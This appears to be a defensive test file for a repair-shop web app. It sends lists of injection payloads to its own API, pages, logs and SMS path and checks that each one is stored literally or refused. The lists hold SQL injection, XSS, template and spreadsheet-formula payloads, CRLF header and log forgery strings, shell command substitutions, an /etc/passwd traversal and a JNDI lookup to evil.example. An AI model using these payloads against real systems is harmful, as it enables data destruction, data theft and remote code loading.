/** Injection: SQL, HTML, templates, formulas, headers and log lines in every text that the shop takes. */

import { setTimeout as pause } from 'node:timers/promises'
import { forgotPasswordOtp, login } from '#shared/account/account-api.ts'
import { listUsers } from '#shared/account/users-api.ts'
import { addModel } from '#shared/catalogue/models-api.ts'
import { listQueue, setRequestStatus } from '#shared/request/queue-api.ts'
import { listOwnRequests, submitRequest } from '#shared/request/submit-api.ts'
import { type Attack, type Kind, statusAndText } from '../attack.ts'

const SQL = [
  ...[
    "' OR '1'='1",
    "'; drop table users; --",
    '1; delete from requests',
    "' union select password from users --",
  ],
  ...["\\' OR 1=1 --", '%', '_', '%%', "') on conflict do nothing; --", '$1', '?', ':id', "E'\\x27'"],
]
const MARKUP = [
  ...['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'-alert(1)-'", '</title><script>'],
  ...['javascript:alert(1)', '<svg/onload=alert(1)>', '&lt;b&gt;', '{{7*7}}', `\${7*7}`, '<%= 7*7 %>'],
]
const FORMULAS = ['=cmd|"/c calc"!A1', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1']
const LINES = [
  '\r\nSet-Cookie: injected=1',
  'a\r\n\r\n<h1>injected</h1>',
  '\n{"level":"info","event":"forged"}',
  '\u001b[31mforged\u2028forged',
]
const COMMANDS = [
  '$(id)',
  '`id`',
  '| id',
  '; id',
  '%s%s%n',
  '../../etc/passwd',
  `\${jndi:ldap://evil.example}`,
]
const PAYLOADS = [...SQL, ...MARKUP, ...FORMULAS, ...LINES, ...COMMANDS]
const SMS_WAIT_MS = 5_000

export const injection: Kind = {
  name: 'injection',
  onBoth: true,
  async run(attack: Attack) {
    // A customer of its own: a customer sends 50 requests a day at most.
    const priya = await attack.shop.register()
    await storesLiterally({ ...attack, priya })
    await searchesLiterally(attack)
    await refusesOrStores(attack)
    await sendsNothingTyped({ ...attack, priya })
    return undefined
  },
}

/** What a customer types is stored and returned as it is, in JSON that no browser runs. */
async function storesLiterally({ priya, check }: Attack): Promise<void> {
  for (const payload of PAYLOADS) {
    const body = { brand: 'Apple', model: payload, issue: payload, notes: payload, pickupAddress: payload }
    const sent = await priya.call(submitRequest, { body, idempotencyKey: crypto.randomUUID() })
    const { answer = [], response } = await priya.call(listOwnRequests, {
      params: { userId: priya.userId },
      limit: 1,
    })
    const what = JSON.stringify(payload)
    const isStored = answer[0]?.id === sent.answer?.id && answer[0]?.notes === payload.trim()
    check(sent.status === 200 && isStored, `${what} is stored as it was typed, with ${sent.status}`)
    check(
      response.headers.get('Content-Type') === 'application/json' &&
        response.headers.get('X-Content-Type-Options') === 'nosniff' &&
        !response.headers.getSetCookie().some((cookie) => cookie.startsWith('injected')),
      `${what} is read as JSON and sets no header`,
    )
  }
}

/** A search finds the text itself: no sign means more. */
async function searchesLiterally({ owner, check }: Attack): Promise<void> {
  for (const payload of PAYLOADS) {
    const what = JSON.stringify(payload)
    const words = payload.toLowerCase().split(/\s+/).filter(Boolean)
    const { status, answer } = await owner.call(listQueue, { query: { find: payload } })
    const isFound = (answer?.rows ?? []).every((request) => {
      const text = `${request.id} ${Object.values(request).join(' ')}`.toLowerCase()
      return words.every((word) => text.includes(word))
    })
    check(status === 200 && isFound, `the search ${what} finds itself only, with ${status}`)
    const users = await owner.call(listUsers, { query: { search: payload } })
    const isOwn = (users.answer ?? []).every((user) =>
      words.every((word) => Object.values(user).join(' ').toLowerCase().includes(word)),
    )
    check(users.status === 200 && isOwn, `the search for the user ${what} finds itself only`)
  }
}

/** Names, addresses, ids and paths: refused with 4xx or harmless, and no table is gone. */
async function refusesOrStores({ shop, owner, url, check }: Attack): Promise<void> {
  for (const payload of PAYLOADS) {
    const visitor = shop.visitor()
    const what = JSON.stringify(payload)
    const calls = [
      ['login', await visitor.call(login, { body: { email: payload, passwordHash: payload } })],
      ['reset', await visitor.call(forgotPasswordOtp, { body: { phone: payload } })],
      [
        'picture',
        await owner.call(addModel, { params: { brandId: 1 }, body: { name: payload, image: payload } }),
      ],
    ] as const
    for (const [name, { status }] of calls)
      check(status >= 400 && status < 500, `a ${name} with ${what} is refused, with ${status}`)
    const segment = encodeURIComponent(payload)
    const api4xx = await statusAndText(owner, 'GET', `/api/repair/user/${segment}`)
    check(api4xx.status === 400 || api4xx.status === 404, `the id ${what} is refused, with ${api4xx.status}`)
    const page = await fetch(`${url}/${segment}?q=${segment}`)
    const html = await page.text()
    check(page.status < 500 && !html.includes('alert(1)'), `the page of ${what} does not repeat it`)
    check(
      !page.headers.getSetCookie().some((cookie) => cookie.startsWith('injected')),
      `${what} sets no header`,
    )
  }
  // The last line may be incomplete.
  const log = shop.servers.flatMap((server) => server.output().split('\n').slice(0, -1))
  const isOneObject = (line: string) => /^\{"level":"[a-z]+",.*\}$/.test(line) && !line.includes('\u001b')
  const isOwn = (line: string) => isOneObject(line) || line.startsWith('Doorstep Repair is open')
  check(log.length > 0 && log.every(isOwn), 'every line of the log is one object of the server')
  check(!log.some((line) => line.includes('"event":"forged"')), 'no line of the log is forged')
  check((await owner.call(listUsers, {})).status === 200, 'all tables are there')
}

/** An SMS holds the catalogue's words only, never those of a customer. */
async function sendsNothingTyped({ shop, owner, priya, check }: Attack): Promise<void> {
  const model = 'iPhone https://evil.example'
  const body = { brand: 'Apple', model, issue: 'Screen Repair' }
  const { answer } = await priya.call(submitRequest, { body, idempotencyKey: crypto.randomUUID() })
  await owner.call(setRequestStatus, { params: { id: answer?.id ?? 0 }, body: { status: 'DONE' } })
  const told = async () =>
    (await shop.phone(priya.details.phone).texts()).filter(({ text }) =>
      text.includes(`request ${answer?.id})`),
    )
  for (let waited = 0; (await told()).length === 0 && waited < SMS_WAIT_MS; waited += 100) await pause(100)
  const texts = await told()
  check(texts.length === 1 && !texts[0]?.text.includes('evil'), 'an SMS repeats nothing that was typed')
}
